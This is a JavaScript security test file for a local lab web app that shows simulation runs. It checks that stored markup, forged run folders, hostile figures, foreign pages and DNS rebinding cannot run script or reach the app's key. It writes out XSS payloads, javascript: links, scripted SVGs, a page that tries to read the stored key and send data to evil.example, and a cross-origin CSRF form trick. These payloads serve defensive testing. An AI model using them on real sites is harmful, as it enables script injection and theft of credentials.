// What others may try: names and files full of markup, a report that looks for the key, pages of other origins, other names.
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { browser, compute, folder, remove, serve, SMALL, launch, until, unvouched, visit } from './lab.mjs';

/** Would set globalThis.struck if it were ever read as more than text. */
const MARK = `"><img src=x onerror="globalThis.struck=1"><script>globalThis.struck=1</script><svg onload=globalThis.struck=1>{{7*7}}`;
const TEXT = JSON.stringify(MARK);
const HOSTILE = SMALL.replace('study: small', 'study: hostile')
  .replace('title: A small glass', `title: ${TEXT}`)
  .replace(/claim: .*/, `claim: ${TEXT}`)
  .replace('topics: [relaxation]', `topics: [${TEXT}]`)
  .replace('title: Energy per spin', `title: ${TEXT}`)
  .replace('curves-label: "t_{w}"', `curves-label: ${TEXT}`)
  .replace('text: energy at t = 12', `text: ${TEXT}`);
const root = folder();
let lab, told, forged;

before(async () => {
  lab = await serve(root);
  told = await compute(lab, HOSTILE);
  const version = (await (await lab.ask(`runs/${told}`)).json()).item.version;
  const noted = await lab.ask(`runs/${told}`, { method: 'PATCH', headers: { 'If-Match': `"${version}"` }, body: JSON.stringify({ note: MARK, tags: [MARK.slice(0, 80)] }) });
  assert.equal(noted.status, 200);
  forged = forge(told, 'forged');
  pretend(told, 'glass-p2-forged', 'glass-p2');
  for (const id of ['forged', 'glass-p2-forged']) await until(async () => (await lab.ask(`runs/${id}`)).status === 200);
});

after(async () => {
  await browser.close();
  await lab.stop();
  remove(root);
});

function edit(file, change) {
  writeFileSync(file, JSON.stringify(change(JSON.parse(readFileSync(file, 'utf8')))));
}

/** A run folder in which everything that may be text is markup, and whose study cannot be read here. */
function forge(from, to) {
  const run = join(root, to);
  cpSync(join(root, from), run, { recursive: true });
  unvouched(run);
  edit(join(run, 'manifest.json'), (one) => ({ ...one, study: MARK, version: MARK, commit: MARK, jdk: MARK, cpu: MARK, reason: MARK, warnings: [MARK] }));
  edit(join(run, 'summary.json'), (one) => ({
    ...one,
    study: MARK,
    warnings: [MARK],
    verdict: [MARK],
    findings: one.findings.map((each) => ({ ...each, id: MARK, text: MARK, unit: MARK, reference: { ...each.reference, source: MARK } })),
  }));
  edit(join(run, 'quantities.json'), (all) => all.map((one) => ({ ...one, symbol: MARK, unit: MARK, definition: MARK })));
  edit(join(run, 'progress.json'), (one) => ({ ...one, unit: MARK }));
  edit(join(run, 'plan.json'), (one) => ({ ...one, points: one.points.map((each) => ({ ...each, coordinates: { ...each.coordinates, [MARK]: MARK } })) }));
  // an index of arrays is vouched for by its point's checkpoint: changed, the whole run is called damaged
  writeFileSync(join(run, 'study.yaml'), `study: forged\nlandscape: { is: ${TEXT}, ${TEXT}: ${TEXT} }\n`);
  const drawn = JSON.parse(readFileSync(join(run, 'figures/energy.vl.json'), 'utf8'));
  rmSync(join(run, 'figures'), { recursive: true });
  mkdirSync(join(run, 'figures'));
  const said = JSON.parse(JSON.stringify(drawn), (name, value) => (['title', 'text', 'description', 'curve'].includes(name) && typeof value === 'string' ? MARK : value));
  writeFileSync(join(run, 'figures/a.vl.json'), JSON.stringify(said));
  const linked = { data: { url: 'http://evil.example/data.json' }, mark: { type: 'point', href: 'javascript:globalThis.struck=1', tooltip: MARK }, encoding: { x: { field: 'x', type: 'quantitative' }, href: { value: 'javascript:globalThis.struck=1' } } };
  writeFileSync(join(run, 'figures/b.vl.json'), JSON.stringify({ ...linked, usermeta: { embedOptions: { loader: { baseURL: 'http://evil.example/' }, actions: true } } }));
  writeFileSync(join(run, 'figures/<img src=x onerror=globalThis.struck=1>.svg'), `<svg xmlns="http://www.w3.org/2000/svg"><script>globalThis.struck=1</script></svg>`);
  return to;
}

/** A run that says that it is one of a bundled study, with a picture that holds a script. */
function pretend(from, to, study) {
  const run = join(root, to);
  cpSync(join(root, from), run, { recursive: true });
  unvouched(run);
  edit(join(run, 'manifest.json'), (one) => ({ ...one, study }));
  const script = `<script>globalThis.struck=1</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="globalThis.struck=1"/></foreignObject>`;
  writeFileSync(join(run, 'figures/energy.svg'), `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="globalThis.struck=1">${script}<rect width="90" height="60"/></svg>`);
}

/** Nothing ran, nothing that could run is in the page, and the page's policy had nothing to refuse. */
async function unharmed(page, where) {
  const found = await page.evaluate(() => ({
    struck: globalThis.struck,
    refused: globalThis.refused,
    elements: document.querySelectorAll('img[src="x"], [onerror], [onload], iframe, object, embed, script:not([src])').length,
    links: [...document.querySelectorAll('a')].filter((one) => /^javascript:/i.test(one.href?.baseVal ?? one.href)).length,
  }));
  assert.deepEqual(found, { struck: undefined, refused: [], elements: 0, links: 0 }, where);
}

test('markup in titles, notes, tags, names, logs, labels and files is text on every page', async () => {
  const visitor = await visit(lab);
  const { page } = visitor;
  await page.addInitScript(() => {
    globalThis.refused = [];
    document.addEventListener('securitypolicyviolation', (event) => globalThis.refused.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  const tabs = ['', '/findings', '/landscape', '/points', '/log', '/provenance'];
  const places = [
    'runs',
    'runs?q=onerror',
    ...[told, forged].flatMap((id) => tabs.map((tab) => `run/${id}${tab}`)),
    `run/${forged}?fig=a`,
    `run/${forged}?fig=b`,
    `compare?runs=${told},${forged}`,
    'machine',
    '?open=glass-p2',
    `?q=${encodeURIComponent(MARK)}`,
    `setup/glass-p2?set=${encodeURIComponent(`landscape.n:${MARK}`)}`,
  ];
  const literal = [];
  for (const place of places) {
    await visitor.go(place);
    await page.locator('main :is(h1, h2, article, tr, figure, p)').first().waitFor();
    await until(async () => (await page.locator('main [role=status]').filter({ hasText: /^reading|^drawing/ }).count()) === 0);
    await page.waitForTimeout(150);
    await unharmed(page, place);
    if ((await page.locator('body').innerText()).includes('<img src=x onerror')) literal.push(place);
  }
  for (const place of ['runs', `run/${told}`, `run/${told}/findings`, `run/${forged}`, `run/${forged}/findings`, `run/${forged}/log`, `run/${forged}/provenance`, `compare?runs=${told},${forged}`])
    assert.ok(literal.includes(place), `${place} says what is written: ${literal}`);
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: /page, study or run/ }).fill('forged');
  await page.getByRole('listbox', { name: 'found' }).getByRole('option', { name: /^forged/ }).first().waitFor();
  await unharmed(page, 'palette');
  await visitor.close();
});

test('a mark of a hostile figure tells its numbers as text', async () => {
  const visitor = await visit(lab);
  const { page } = visitor;
  await visitor.go(`run/${forged}?fig=a`);
  const mark = page.locator('.drawing svg .mark-symbol path').nth(4);
  await mark.hover({ force: true });
  await mark.click({ force: true });
  await page.locator('.picked').waitFor();
  assert.equal(await page.evaluate(() => globalThis.struck), undefined);
  await visitor.close();
});

test('the report of a hostile study is text, opened from its file', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto(`file://${join(root, told, 'report.html')}`);
  await page.locator('svg').first().waitFor();
  assert.match(await page.locator('body').innerText(), /<img src=x onerror/);
  assert.equal(await page.locator('img[src=x], [onerror], [onload]').count(), 0);
  assert.equal(await page.evaluate(() => globalThis.struck), undefined);
  assert.deepEqual(asked.filter((url) => !/^(file|data|blob):/.test(url)), []);
  await context.close();
});

test('a report sees neither the key nor the laboratory', async () => {
  const prey = `<!doctype html><title>waiting</title><script>
    const found = {};
    for (const [name, look] of Object.entries({
      storage: () => localStorage.getItem('rugged.key'),
      cookie: () => document.cookie,
      opener: () => opener && opener.localStorage.getItem('rugged.key'),
      parent: () => parent !== self && parent.localStorage.getItem('rugged.key'),
    })) try { found[name] = look() || null } catch (why) { found[name] = why.name }
    const asked = (url, options) => fetch(url, options).then((reply) => reply.status, (why) => why.name);
    Promise.all([asked('${lab.url}api/about'), asked('${lab.url}api/runs', { method: 'POST', body: '{}' }), asked('http://evil.example/?' + location.href)])
      .then((answers) => { found.answers = answers; document.title = JSON.stringify(found) });
  </script>`;
  const visitor = await visit(lab);
  // whoever made the folder has its checksums right: what the server says of a report is kept, what stands in it is replaced on the way
  await visitor.context.route('**/report.html*', async (route) => route.fulfill({ response: await route.fetch(), body: prey }));
  await visitor.go(`run/${told}`);
  const [report] = await Promise.all([visitor.context.waitForEvent('page'), visitor.page.getByRole('button', { name: 'Report' }).click()]);
  await until(async () => (await report.title()).startsWith('{'));
  const found = JSON.parse(await report.title());
  assert.deepEqual(found, { storage: 'SecurityError', cookie: 'SecurityError', opener: null, parent: null, answers: ['TypeError', 'TypeError', 'TypeError'] });
  await visitor.close();
});

test('pages on another port and under another name of the loopback reach nothing', async () => {
  const elsewhere = createServer((_, reply) => {
    reply.writeHead(200, { 'Content-Type': 'text/html' });
    reply.end('<!doctype html><title>elsewhere</title><body></body>');
  });
  await new Promise((resolve) => elsewhere.listen(0, resolve));
  const { port } = elsewhere.address();
  const before = (await (await lab.ask('runs?size=1')).json()).total;
  for (const name of ['127.0.0.1', 'localhost']) {
    const context = await browser.newContext();
    const page = await context.newPage();
    // one who has the key in this browser, under its own origin
    await page.goto(`${lab.url}#k=${lab.key}`);
    await page.getByRole('navigation', { name: 'Pages', exact: true }).waitFor();
    await page.goto(`http://${name}:${port}/`);
    const found = await page.evaluate(tryEverything, { url: lab.url, key: lab.key, other: lab.url.replace('127.0.0.1', 'localhost'), yaml: SMALL.replace('small', 'stolen') });
    for (const [what, answer] of Object.entries(found)) assert.equal(answer, 'nothing', `${what} from ${name}`);
    const frames = page.frames().filter((frame) => frame !== page.mainFrame());
    assert.ok(frames.length > 0 && frames.every((frame) => frame.url().startsWith('chrome-error:')), frames.map((frame) => frame.url()).join());
    await context.close();
  }
  assert.equal((await (await lab.ask('runs?size=1')).json()).total, before);
  elsewhere.close();
});

/** Runs in the foreign page. */
async function tryEverything({ url, key, other, yaml }) {
  const nothing = 'nothing';
  const asked = (address, options) => fetch(address, options).then((reply) => (reply.type === 'opaque' ? nothing : `${reply.status}`), () => nothing);
  const loaded = (element) =>
    new Promise((resolve) => {
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve(nothing);
      document.body.append(element);
    });
  const json = { 'Content-Type': 'application/json', Authorization: `Bearer ${key}` };
  const found = {
    plainGet: await asked(`${url}api/about`),
    getWithKey: await asked(`${url}api/about`, { headers: { Authorization: `Bearer ${key}` } }),
    otherName: await asked(`${other}api/about`, { headers: { Authorization: `Bearer ${key}` } }),
    postWithKey: await asked(`${url}api/runs`, { method: 'POST', headers: json, body: JSON.stringify({ yaml }) }),
    textPost: await asked(`${url}api/runs`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ yaml }) }),
    stream: await asked(`${url}api/events?topics=runs`, { headers: { Authorization: `Bearer ${key}` } }),
    shell: await asked(url, { credentials: 'include' }),
    script: await loaded(Object.assign(document.createElement('script'), { src: `${url}favicon.svg` })),
    picture: await loaded(Object.assign(document.createElement('img'), { src: `${url}favicon.svg` })),
    storage: localStorage.getItem('rugged.key') ?? nothing,
  };
  const frame = document.createElement('iframe');
  frame.name = 'target';
  frame.src = url;
  const shown = new Promise((resolve) => (frame.onload = resolve));
  document.body.append(frame);
  await shown;
  const form = Object.assign(document.createElement('form'), { action: `${url}api/runs`, method: 'post', target: 'target', enctype: 'text/plain' });
  const field = Object.assign(document.createElement('input'), { name: JSON.stringify({ yaml }).slice(0, -1) + ',"a":"', value: '"}' });
  form.append(field);
  document.body.append(form);
  const answered = new Promise((resolve) => (frame.onload = resolve));
  form.submit();
  await answered;
  const opened = open(url);
  await new Promise((resolve) => setTimeout(resolve, 1000));
  try {
    found.opened = opened && !opened.closed && opened.localStorage.getItem('rugged.key') ? 'key' : nothing;
  } catch {
    found.opened = nothing;
  }
  return found;
}

test('a name that leads here by a foreign name server is not answered', async () => {
  const rebound = await launch('--host-resolver-rules=MAP evil.example 127.0.0.1');
  const page = await (await rebound.newContext()).newPage();
  const foreign = lab.url.replace('127.0.0.1', 'evil.example');
  for (const path of ['', 'api/about', 'assets/nothing.js', 'favicon.svg']) {
    const reply = await page.goto(foreign + path);
    assert.equal(reply.status(), 403, path);
  }
  const numbered = await page.goto(lab.url.replace('127.0.0.1', 'localhost'));
  assert.equal(numbered.status(), 200);
  assert.equal(page.url(), lab.url, 'one origin, one storage');
  await rebound.close();
});
